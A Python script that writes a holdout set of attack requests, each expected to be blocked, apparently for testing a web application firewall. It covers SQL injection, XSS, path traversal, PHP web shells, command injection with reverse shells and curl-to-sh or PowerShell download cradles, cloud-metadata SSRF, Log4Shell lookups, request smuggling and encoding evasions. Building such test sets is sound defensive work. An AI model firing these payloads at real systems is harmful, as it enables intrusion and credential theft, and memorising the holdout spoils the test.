#!/usr/bin/python3
"""Writes holdout10/attacks/*.jsonl (hand-written entries; run from anywhere)."""
import json, os, urllib.parse
from collections import OrderedDict

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "attacks")
E = OrderedDict()

def q(path, params):
    return path + "?" + urllib.parse.urlencode(params, quote_via=urllib.parse.quote, safe="")

def add(cat, note, **kw):
    lst = E.setdefault(cat, [])
    e = OrderedDict(id="h10-%s-%03d" % (cat, len(lst) + 1), category=cat, expect="block")
    e.update(kw)
    e["note"] = note
    lst.append(e)

H = "Host: shop.example.com\r\n"

# ---------------------------------------------------------------- sqli
add("sqli", "error-based MSSQL in a news article id", target=q("/world/article", [("id", "4821' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--")]), profile="chrome")
add("sqli", "login bypass in a form", method="POST", target="/ats/login", profile="form", form=[["username", "admin'-- -"], ["password", "whatever"]])
add("sqli", "tautology in a BI filter JSON", method="POST", target="/api/reports/tickets/query", profile="xhr", json={"filter": {"status": "open' OR '1'='1"}, "limit": 50})
add("sqli", "union select in a tracking cookie", target="/", profile="chrome", headers=[["Cookie", "_ga=GA1.1.1840392211.1701939122; ref_id=1 UNION SELECT username,password_hash FROM admin_users-- "]])
add("sqli", "time-based MSSQL in a flight search", target=q("/flights/search", [("from", "LHR"), ("to", "JFK';WAITFOR DELAY '0:0:7'--"), ("date", "2027-03-14")]), profile="safari")
add("sqli", "union in a GraphQL variable", method="POST", target="/graphql", profile="xhr", json={"query": "query($id: ID!) { order(id: $id) { total } }", "variables": {"id": "1 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables--"}})
add("sqli", "PostgreSQL stacked pg_sleep in a sort parameter", target="/api/v2/accounts/acc_7781/transactions?sort=amount%3BSELECT%20pg_sleep(10)--", profile="mobile_app")
add("sqli", "boolean blind in the User-Agent", target="/products/oak-dining-table-180cm", profile="chrome", headers=[["User-Agent", "Mozilla/5.0' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a"]])
add("sqli", "extractvalue error-based in a payee form", method="POST", target="/banking/payees/add", profile="form", form=[["payee_name", "x' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e)) AND '1'='1"], ["sort_code", "20-00-00"]])

# ---------------------------------------------------------------- xss
add("xss", "script tag stealing cookies in a news comment", method="POST", target="/world/2026/12/07/coalition-talks-stall/comments", profile="form", form=[["author", "reader"], ["body", "Great piece <script>fetch('https://203.0.113.9/c?'+document.cookie)</script>"]])
add("xss", "img onerror in a search query", target=q("/search", [("q", "<img src=x onerror=alert(document.domain)>")]), profile="firefox")
add("xss", "svg onload in a profile bio JSON", method="PATCH", target="/api/me", profile="xhr", json={"bio": "hi <svg/onload=confirm(1)>"})
add("xss", "javascript: URL in forum BBCode", method="POST", target="/forum/threads/19921/reply", profile="form", form=[["message", "see [url=javascript:alert(document.cookie)]the changelog[/url]"]])
add("xss", "script in the Referer", target="/blog/how-to-drop-a-kerb-without-planning-permission", profile="chrome", headers=[["Referer", "https://example.org/\"><script>alert(1)</script>"]])
add("xss", "details ontoggle in a travel request", method="POST", target="/booking/bk_Q7X2/requests", profile="form", form=[["message", "<details open ontoggle=alert(1)>"]])
add("xss", "iframe with javascript src in a webhook description", method="POST", target="/admin/api/webhooks", profile="xhr", json={"url": "https://hooks.example-partner.com/x", "description": "<iframe src=\"javascript:alert(top.document.cookie)\"></iframe>"})
add("xss", "event handler attribute break-out in a query", target=q("/catalogue", [("topic", "\" autofocus onfocus=\"alert(1)")]), profile="chrome")
add("xss", "script in a multipart cover letter", method="POST", target="/careers/jobs/4471/apply", profile="form_multipart",
    multipart={"boundary": "----WebKitFormBoundaryA1b2C3d4E5f6G7h8", "parts": [{"name": "first_name", "data": "Eve"}, {"name": "cover_letter", "data": "<script src=//203.0.113.9/x.js></script>"}]})

# ---------------------------------------------------------------- lfi
add("lfi", "dot-dot-slash to /etc/passwd in a download parameter", target="/banking/statements/download?file=../../../../etc/passwd", profile="chrome")
add("lfi", "encoded traversal to /etc/shadow in a report template", target="/api/reports/render?template=..%2f..%2f..%2f..%2fetc%2fshadow", profile="xhr")
add("lfi", "Windows traversal in a JSON attachment", method="POST", target="/api/messages", profile="xhr", json={"to": "practice", "attachment": "..\\..\\..\\windows\\win.ini"})
add("lfi", "traversal in a multipart filename", method="POST", target="/portal/insurance/card", profile="form_multipart",
    multipart={"boundary": "----WebKitFormBoundaryT9r8a7v6e5r4s3al", "parts": [{"name": "file", "filename": "../../../../var/www/html/shell.php", "content_type": "image/png", "data": "<?php system($_GET['c']); ?>"}]})
add("lfi", "proc self environ in a cookie", target="/", profile="chrome", headers=[["Cookie", "lang=../../../../../proc/self/environ"]])
add("lfi", "php filter wrapper in a page parameter", target="/index.php?page=php://filter/convert.base64-encode/resource=config.php", profile="chrome")
add("lfi", "dotfile fetch in a path parameter of an image CDN", target="/img/resize?src=../../.env&w=100", profile="chrome_img")

# ---------------------------------------------------------------- rce
add("rce", "semicolon command in a diagnostics form", method="POST", target="/api/devices/sh-00a1b2c3/diagnostics/ping", profile="form", form=[["host", "8.8.8.8;cat /etc/passwd"], ["count", "3"]])
add("rce", "command substitution in a webhook URL", method="POST", target="/admin/api/webhooks", profile="xhr", json={"url": "https://hooks.example.com/$(curl -s http://203.0.113.9/x|sh)", "events": ["invoice.paid"]})
add("rce", "pipe to id in a file name parameter", target="/api/export?filename=report.pdf%7Cid", profile="xhr")
add("rce", "backticks wget in a name field", method="POST", target="/checkout/address", profile="form", form=[["name", "`wget http://198.51.100.4/a -O /tmp/a; sh /tmp/a`"], ["city", "Dublin"]])
add("rce", "reverse shell in a cron job command", method="PUT", target="/admin/api/jobs/nightly-export", profile="xhr", json={"schedule": "*/5 * * * *", "command": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"})
add("rce", "Shellshock in the User-Agent", target="/cgi-bin/status", profile="none", headers=[["User-Agent", "() { :; }; /bin/bash -c 'curl http://203.0.113.9/s | sh'"]])
add("rce", "PowerShell download cradle in a form", method="POST", target="/admin/settings/backups", profile="form", form=[["exclude", "x & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')\""]])
add("rce", "netcat with -e in an IoT config JSON", method="PUT", target="/api/devices/sh-00a1b2c3/config", profile="xhr", json={"name": "room; nc -e /bin/sh 203.0.113.5 4444"})
add("rce", "&& chained command in a query", target=q("/api/tools/dns", [("domain", "example.com && cat /etc/shadow")]), profile="xhr")

# ---------------------------------------------------------------- ssrf
add("ssrf", "AWS metadata as a webhook URL", method="POST", target="/admin/api/webhooks", profile="xhr", json={"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "events": ["invoice.paid"]})
add("ssrf", "GCP metadata as an avatar URL", method="POST", target="/api/me/avatar-from-url", profile="form", form=[["avatar_url", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"]])
add("ssrf", "gopher to Redis in an import URL", target=q("/api/sheets/import-url", [("url", "gopher://127.0.0.1:6379/_FLUSHALL%0d%0aSET%20x%20y%0d%0a")]), profile="xhr")
add("ssrf", "decimal loopback in an SSO metadata URL", method="POST", target="/admin/settings/sso", profile="form", form=[["metadata_url", "http://2130706433:8080/admin/"]])
add("ssrf", "file URL in a PDF renderer", method="POST", target="/api/pdf/render", profile="api", json={"source_url": "file:///etc/passwd", "format": "A4"})
add("ssrf", "IPv6-mapped loopback in a link preview", target=q("/api/link-preview", [("url", "http://[::ffff:127.0.0.1]:2375/containers/json")]), profile="xhr")
add("ssrf", "dict scheme to memcached", target=q("/api/fetch", [("u", "dict://localhost:11211/stats")]), profile="xhr")

# ---------------------------------------------------------------- java (Log4Shell-style lookups)
add("java", "jndi ldap in X-Request-Id", target="/api/app/config?platform=android", profile="mobile_app", headers=[["X-Request-Id", "${jndi:ldap://203.0.113.7:1389/Exploit}"]])
add("java", "lower-case lookup obfuscation in Accept-Language", target="/", profile="chrome", headers=[["Accept-Language", "${${lower:j}${lower:n}di:ldap://203.0.113.7/a}"]])
add("java", "jndi rmi in a payment memo", method="POST", target="/api/v2/payments/sepa", profile="api", json={"amount": {"value": "1.00", "currency": "EUR"}, "remittance": "${jndi:rmi://203.0.113.7:1099/o}"})
add("java", "default-value obfuscation in a cookie", target="/account/orders", profile="firefox", headers=[["Cookie", "session=abc; pref=${${::-j}${::-n}${::-d}${::-i}:dns://x.203.0.113.7.nip.io/a}"]])
add("java", "jndi in a Bearer token", target="/api/v2/cards", profile="api", headers=[["Authorization", "Bearer ${jndi:ldap://203.0.113.7/t}"]])
add("java", "jndi in X-Forwarded-Host", target="/oauth2/authorize?client_id=web", profile="chrome", headers=[["X-Forwarded-Host", "${jndi:ldaps://203.0.113.7/h}"]])
add("java", "URL-encoded jndi in a query parameter", target="/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fq%7D", profile="chrome")
add("java", "env lookup exfiltration in the User-Agent", target="/", profile="none", headers=[["User-Agent", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.203.0.113.7.nip.io/a}"]])

# ---------------------------------------------------------------- scanner
add("scanner", "sqlmap user agent", target="/world/article?id=4821", profile="none", headers=[["User-Agent", "sqlmap/1.7.11#stable (https://sqlmap.org)"], ["Accept", "*/*"]])
add("scanner", "Nikto user agent", target="/", profile="none", headers=[["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"]])
add("scanner", "Nuclei user agent", target="/actuator/env", profile="none", headers=[["User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"]])
add("scanner", "git config probe", target="/.git/config", profile="none", headers=[["User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"]])
add("scanner", "env file probe", target="/.env", profile="none", headers=[["User-Agent", "Mozilla/5.0"]])
add("scanner", "SQL dump probe", target="/backup/db_2026-12-01.sql", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible)"]])
add("scanner", "ffuf fuzzing user agent", target="/admin/FUZZ", profile="none", headers=[["User-Agent", "Fuzz Faster U Fool v2.1.0-dev"]])
add("scanner", "Nmap scripting engine user agent", target="/", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]])

# ---------------------------------------------------------------- protocol (raw)
add("protocol", "Content-Length and Transfer-Encoding together (smuggling)", raw="POST /api/v1/logs/ingest HTTP/1.1\r\n" + H + "Content-Type: application/json\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n8\r\n{\"a\":1}\n\r\n0\r\n\r\n")
add("protocol", "Transfer-Encoding listed twice in one header", raw="POST /api/v1/logs/ingest HTTP/1.1\r\n" + H + "Content-Type: application/json\r\nTransfer-Encoding: chunked, chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n")
add("protocol", "NUL byte inside a header value", raw="GET /account/orders HTTP/1.1\r\n" + H + "X-Trace: abc\x00def\r\n\r\n")
add("protocol", "HTTP/1.1 request without Host", raw="GET /api/app/config HTTP/1.1\r\nUser-Agent: curl/8.4.0\r\nAccept: */*\r\n\r\n")
add("protocol", "two different Host headers", raw="GET /admin/audit HTTP/1.1\r\n" + H + "Host: internal.example.local\r\n\r\n")
add("protocol", "invalid chunk size", raw="POST /ingest/v1/telemetry HTTP/1.1\r\n" + H + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n")
add("protocol", "space inside a header name", raw="GET / HTTP/1.1\r\n" + H + "Transfer Encoding: chunked\r\n\r\n")
add("protocol", "TRACE method", raw="TRACE /account HTTP/1.1\r\n" + H + "Cookie: session=abc\r\n\r\n")
add("protocol", "CRLF injection in the query (response splitting)", target="/redirect?next=%2Fhome%0d%0aSet-Cookie%3A%20session%3Dattacker", profile="chrome")
add("protocol", "disallowed request content type carrying a script", method="POST", target="/api/upload", profile="api", headers=[["Content-Type", "application/x-sh"]], body="#!/bin/sh\ncurl http://203.0.113.9/x | sh\n")

# ---------------------------------------------------------------- evasion
add("evasion", "double URL-encoded quote tautology", target="/world/article?id=4821%2527%2520OR%25201%253D1--", profile="chrome")
add("evasion", "%u-encoded script tag", target="/search?q=%u003Cscript%u003Ealert(1)%u003C%2Fscript%u003E", profile="chrome")
add("evasion", "overlong UTF-8 dot-dot-slash", target="/static/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", profile="chrome")
add("evasion", "inline comments splitting UNION SELECT", target=q("/api/products", [("cat", "1 UN/**/ION/**/SE/**/LECT 1,2,version()")]), profile="xhr")
add("evasion", "MySQL versioned comments and mixed case", target=q("/api/products", [("cat", "1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,concat(user,0x3a,password),3 FrOm mysql.user")]), profile="xhr")
add("evasion", "HTML-entity-encoded javascript URL in JSON", method="POST", target="/api/forum/posts", profile="xhr", json={"thread": 1, "markdown": "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))"})
add("evasion", "null byte before an allowed extension", target="/img/resize?src=../../../etc/passwd%00.png&w=100", profile="chrome_img")
add("evasion", "newline separators around union select", target="/api/products?cat=1%0aunion%0aselect%0a1,2,3", profile="xhr")
add("evasion", "backslash-encoded Windows traversal", target="/download?f=..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts", profile="chrome")
add("evasion", "IFS and quote splitting in a form command", method="POST", target="/api/devices/sh-00a1b2c3/diagnostics/ping", profile="form", form=[["host", "127.0.0.1;c'a't${IFS}/e\"t\"c/pa??wd"]])
add("evasion", "mixed-case script with backtick call in a cookie", target="/", profile="chrome", headers=[["Cookie", "theme=<ScRiPt>alert`1`</sCrIpT>"]])
add("evasion", "char() concatenation to avoid quotes", target=q("/api/users", [("name", "x') OR name=CHAR(97,100,109,105,110)-- ")]), profile="xhr")
add("evasion", "double-encoded traversal in the path", target="/static/..%252f..%252f..%252fetc%252fpasswd", profile="chrome")
add("evasion", "multipart shell with a double extension", method="POST", target="/api/me/avatar", profile="mobile_app",
    multipart={"boundary": "Boundary-0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0", "parts": [{"name": "avatar", "filename": "avatar.php.jpg", "content_type": "image/jpeg", "data": "GIF89a<?php eval($_POST['x']); ?>"}]})

if __name__ == "__main__":
    os.makedirs(OUT, exist_ok=True)
    for cat, lst in E.items():
        with open(os.path.join(OUT, cat + ".jsonl"), "w", encoding="utf-8") as fh:
            for e in lst:
                fh.write(json.dumps(e, ensure_ascii=False) + "\n")
